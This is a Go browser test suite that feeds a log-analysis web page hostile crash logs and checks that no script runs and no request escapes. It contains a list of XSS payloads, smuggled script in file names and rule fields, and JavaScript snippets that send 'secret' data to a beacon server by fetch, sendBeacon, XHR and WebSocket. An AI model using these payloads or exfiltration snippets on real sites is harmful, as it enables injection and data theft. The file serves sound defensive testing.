package browser

import (
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// beacon is a server that nothing may ask for anything.
func beacon(t testing.TB) *server {
	return serve(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprintln(w, "window.pwned = true")
	}))
}

// payloads are texts that would run or fetch something if any part of the page took
// them for HTML, for an address or for a command.
func payloads(url string) []string {
	return []string{
		`<script>window.pwned=1;fetch("` + url + `/script")</script>`,
		`<script src="` + url + `/src"></script>`,
		`<img src="` + url + `/img" onerror="window.pwned=1">`,
		`<img src=x onerror=window.pwned=1>`,
		`<svg onload="window.pwned=1"><image href="` + url + `/svg"/></svg>`,
		`<iframe src="` + url + `/frame"></iframe><iframe srcdoc="<script>parent.pwned=1</script>">`,
		`<style>@import "` + url + `/import"; body{background:url(` + url + `/css)}</style>`,
		`<link rel=stylesheet href="` + url + `/link"><link rel=prefetch href="` + url + `/prefetch">`,
		`<meta http-equiv=refresh content="0;url=` + url + `/refresh">`,
		`<form action="` + url + `/form"><input autofocus onfocus="this.form.submit()"></form>`,
		`<a href="javascript:window.pwned=1" autofocus onfocus="window.pwned=1">x</a>`,
		`<base href="` + url + `/">`, `<object data="` + url + `/object"></object><embed src="` + url + `/embed">`,
		`</script><script>window.pwned=1</script>`, `]]><script>window.pwned=1</script>`, `--><script>window.pwned=1</script>`,
		`</textarea></title></style></pre><script>window.pwned=1</script>`,
		`"><script>window.pwned=1</script>`, `' onmouseover='window.pwned=1' autofocus onfocus='window.pwned=1`,
		`javascript:window.pwned=1`, url + `/plain`, `[click](` + url + `/markdown) ![x](` + url + `/mdimage)`,
		`{{constructor.constructor("window.pwned=1")()}} ${window.pwned=1}`,
		"\x1b]0;evil\x07\x1b[2J\x1b]8;;" + url + "/osc\x1b\\click\x1b]8;;\x1b\\", "\u202egol.exe\u202c \u2066x\u2069 \ufeff\u200b", "nul\x00nul", "\xed\xa0\x80\xed\xbf\xbf\xff\xfe",
		strings.Repeat("<b>very long ", 500),
		`%3Cscript%3Ewindow.pwned=1%3C/script%3E &lt;script&gt;window.pwned=1&lt;/script&gt;`,
	}
}

// hostile is a log that holds the payloads in every place that the page shows: in
// names of processes, modules, functions and commands, between lines and behind them.
func hostile(log, url string) string {
	var b strings.Builder
	all := payloads(url)
	short := func(i int) string { // as a name: without blanks
		p := strings.Join(strings.Fields(all[i%len(all)]), "/**/")
		return p[:min(len(p), 120)]
	}
	n := 0
	for line := range strings.Lines(log) {
		line = strings.TrimRight(line, "\r\n")
		switch {
		case strings.Contains(line, "Image:"):
			at := strings.Index(line, "Image:") + len("Image:")
			line = line[:at] + "         " + short(n)
		case strings.Contains(line, "kd> "):
			line += " ; .echo " + all[n%len(all)]
		case strings.Contains(line, "!") && strings.Contains(line, "+0x"):
			if n%3 == 0 {
				line = strings.Replace(line, "+0x", short(n)+"+0x", 1)
			}
		case strings.Contains(line, "*** Unknown owner"):
			line += " " + short(n)
		}
		n++
		fmt.Fprintf(&b, "%s\n%s\n", line, all[n%len(all)])
	}
	fmt.Fprintln(&b, strings.Repeat(all[2], 10_000))
	for _, p := range all {
		name := strings.Join(strings.Fields(p), "_")
		name = name[:min(len(name), 100)]
		fmt.Fprintf(&b, "0: kd> lmvm %s\nstart             end                 module name\nfffff880`01400000 fffff880`0142f000   %s   (deferred)\n    Image path: \\SystemRoot\\%s.sys\n    Image name: %s.sys\n    CompanyName:      %s\n", p, name, name, name, p)
		fmt.Fprintf(&b, "0: kd> !process 0 0 %s\nPROCESS fffffa800cd6a5f0\n    SessionId: none  Cid: 0004    Peb: 00000000  ParentCid: 0000\n    Image: %s\n", p, name)
	}
	return b.String()
}

// lookAtAll opens all that the page can show of what was analysed.
func lookAtAll(p *tab) {
	p.Helper()
	p.run(`(async () => {
		const rest = () => new Promise((r) => setTimeout(r, 10));
		const open = () => document.querySelectorAll("details").forEach((d) => { d.open = true; });
		open();
		for (const tab of document.querySelectorAll("#tables [role=tab]")) {
			tab.click();
			for (let i = 0; i < 100 && tab.getAttribute("aria-selected") !== "true"; i++) await rest();
			await rest();
			open();
		}
		for (const b of [...document.querySelectorAll("#findings button.address, .kdp-node[data-address], #tables td button.address")].slice(0, 30)) {
			b.dispatchEvent(new MouseEvent("click", { bubbles: true }));
			await rest();
			open();
		}
		document.getElementById("tab-read").click();
		const viewer = document.getElementById("viewer");
		for (let at = 0; at < viewer.scrollHeight; at += viewer.clientHeight) {
			viewer.scrollTop = at;
			await rest();
			viewer.querySelectorAll(".line")[3]?.click();
		}
		document.querySelector("#f1 button.id")?.click();
		for (let i = 0; i < 100 && !document.getElementById("dialog").open; i++) await rest();
		document.getElementById("dialog").close();
	})()`)
}

// innocent fails the test if anything of the log ran, went out or led away.
func (p *tab) innocent(b *server, url string) {
	p.Helper()
	time.Sleep(300 * time.Millisecond) // for requests that were about to begin
	if n := b.hits.Load(); n > 0 {
		p.Errorf("%d requests left the page, the last %v", n, b.last.Load())
	}
	if eval[bool](p, `window.pwned !== undefined`) {
		p.Error("a script of the log ran")
	}
	if at := eval[string](p, `location.href.split("#")[0]`); at != url {
		p.Errorf("the page is now %s, was %s", at, url)
	}
	if n := eval[int](p, `document.querySelectorAll("script:not([type='module'])[src], iframe, object, embed, form[action], base, link[rel=prefetch], meta[http-equiv=refresh]").length`); n > 0 {
		p.Errorf("%d elements of the log are in the document", n)
	}
	p.quiet()
}

// pages are the forms in which the page is given away.
func pages(t testing.TB) map[string]string {
	return map[string]string{
		"served":  serve(t, written(t)).URL + "/",
		"site":    serve(t, http.FileServer(http.Dir(build(t).site()))).URL + "/",
		"offline": "file://" + build(t).offline(),
	}
}

// TestNothingLeaves gives the page a hostile log and looks at all that it makes of it.
func TestNothingLeaves(t *testing.T) {
	for name, url := range pages(t) {
		if name == "site" {
			continue // the same modules as served
		}
		t.Run(name, func(t *testing.T) {
			b := beacon(t)
			p := openPage(t, url)
			logs := []string{golden(t), readFile(t, "../page/examples/stall.log"), readFile(t, "../page/examples/workers.log")}
			if name == "offline" {
				logs = logs[:1] // the page is the same, its policy is another
			}
			for _, log := range logs {
				before := p.turn()
				p.drop("#edit", file{`<img src=x onerror=window.pwned=1>.log`, []byte(hostile(log, b.URL))})
				p.turned(before)
				lookAtAll(p)
				p.innocent(b, url)
			}
			// As rules.
			p.click("#view-rules")
			var files []file
			for i, text := range payloads(b.URL) {
				files = append(files, file{fmt.Sprintf(`<img src=x onerror=window.pwned=%d>.yaml`, i), []byte("format: kdlocks.rules/v1\nrules:\n  - id: " + text + "\n    title: '" + text + "'\n    " + text + ": 1\n")})
			}
			p.drop("#own", files...)
			p.wait("mistakes", `document.querySelectorAll("#rule-mistakes li").length > 0`)
			p.innocent(b, url)
			// In a comparison.
			p.click("#view-compare")
			early, late := twoCaptures(t)
			p.drop("#compare", file{"<b>1", []byte(hostile(early, b.URL))}, file{"<b>2", []byte(hostile(late, b.URL))})
			p.wait("comparison", `document.querySelector("#compare .verdict .sentence")`)
			p.innocent(b, url)
			// In the address.
			p.run(`location.hash = "view=<script>&example=" + encodeURIComponent($1) + "&theme=" + encodeURIComponent($1)`, `"><img src=`+b.URL+`/hash onerror=window.pwned=1>`)
			p.complaints() // an example of that name cannot be had
			p.innocent(b, url)
		})
	}
}

// TestDocumentsAreInert opens what is taken along from a hostile log, as files.
func TestDocumentsAreInert(t *testing.T) {
	b := beacon(t)
	p := openPage(t, serve(t, written(t)).URL)
	dir := t.TempDir()
	for i, log := range []string{golden(t), readFile(t, "../page/examples/cycle.log")} {
		before := p.turn()
		p.drop("#edit", file{`<script>window.pwned=1</script>.log`, []byte(hostile(log, b.URL))})
		p.turned(before)
		for _, format := range []string{"html", "svg"} {
			name := filepath.Join(dir, fmt.Sprintf("report%d.%s", i, format))
			if err := os.WriteFile(name, []byte(p.saved(format)), 0o644); err != nil {
				t.Fatal(err)
			}
			doc := blank(t)
			doc.do(chromedp.Navigate("file://" + name))
			doc.run(`document.querySelectorAll("details").forEach((d) => { d.open = true; })`)
			doc.innocent(b, "file://"+name)
		}
	}
}

// saved returns what a download button gives.
func (p *tab) saved(format string) string {
	p.Helper()
	p.run(`(() => {
		window.savedText = undefined;
		const make = URL.createObjectURL;
		URL.createObjectURL = (blob) => { blob.text().then((t) => { window.savedText = t; }); URL.createObjectURL = make; return make.call(URL, blob); };
	})()`)
	p.click(`[data-save="` + format + `"]`)
	p.wait(format, `window.savedText !== undefined`)
	return eval[string](p, `window.savedText`)
}

// escapes are ways out of a page. Each is a function body; $1 is the address.
var escapes = map[string]string{
	"fetch":      `await fetch($1, { mode: "no-cors" })`,
	"beacon":     `navigator.sendBeacon($1, "secret")`,
	"image":      `new Image().src = $1`,
	"form":       `const f = document.createElement("iframe"); f.name = "out"; document.body.append(f); const form = document.createElement("form"); form.action = $1; form.target = "out"; form.method = "post"; document.body.append(form); form.submit()`,
	"frame":      `const f = document.createElement("iframe"); f.src = $1; document.body.append(f)`,
	"worker":     `const w = new Worker(URL.createObjectURL(new Blob(["fetch('" + $1 + "', { mode: 'no-cors' }).catch(() => {})"], { type: "text/javascript" })))`,
	"socket":     `new WebSocket($1.replace("http", "ws"))`,
	"events":     `new EventSource($1)`,
	"import":     `await import($1)`,
	"script":     `const s = document.createElement("script"); s.src = $1; document.head.append(s)`,
	"prefetch":   `const l = document.createElement("link"); l.rel = "prefetch"; l.href = $1; document.head.append(l)`,
	"stylesheet": `const l = document.createElement("link"); l.rel = "stylesheet"; l.href = $1; document.head.append(l)`,
	"style":      `document.body.style.backgroundImage = "url(" + $1 + ")"`,
	"font":       `const f = new FontFace("x", "url(" + $1 + ")"); document.fonts.add(f); await f.load()`,
	"media":      `const v = document.createElement("video"); v.src = $1; document.body.append(v); v.load()`,
	"object":     `const o = document.createElement("object"); o.data = $1; document.body.append(o)`,
	"xhr":        `const x = new XMLHttpRequest(); x.open("POST", $1); x.send("secret")`,
}

// TestBrowserKeepsAllIn tries every way out, by scripts within the page: the browser
// stops them. The same from a page without a policy gets out, so that the test can fail.
func TestBrowserKeepsAllIn(t *testing.T) {
	try := func(p *tab, url string) {
		for _, name := range sortedKeys(escapes) {
			// Errors are what is hoped for.
			_, _ = tryEval[chromedp.Void](p, `(async () => { try { `+escapes[name]+` } catch {} })()`, url+"/"+name)
		}
	}
	for name, url := range pages(t) {
		t.Run(name, func(t *testing.T) {
			b := beacon(t)
			p := openPage(t, url)
			try(p, b.URL)
			time.Sleep(500 * time.Millisecond)
			if n := b.hits.Load(); n > 0 {
				t.Errorf("%d requests got out, the last %v", n, b.last.Load())
			}
		})
	}
	t.Run("without a policy", func(t *testing.T) {
		for _, name := range sortedKeys(escapes) {
			b := beacon(t)
			p := blank(t)
			p.do(chromedp.Navigate(serve(t, http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("Content-Type", "text/html")
				fmt.Fprint(w, "<!DOCTYPE html><body>")
			})).URL))
			_, _ = tryEval[chromedp.Void](p, `(async () => { try { `+escapes[name]+` } catch {} })()`, b.URL+"/"+name)
			for end := time.Now().Add(patience); b.hits.Load() == 0; time.Sleep(10 * time.Millisecond) {
				if time.Now().After(end) {
					t.Errorf("%s does not get out of a page without a policy either: it proves nothing", name)
					break
				}
			}
			chromedp.Cancel(p.ctx)
		}
	})
}
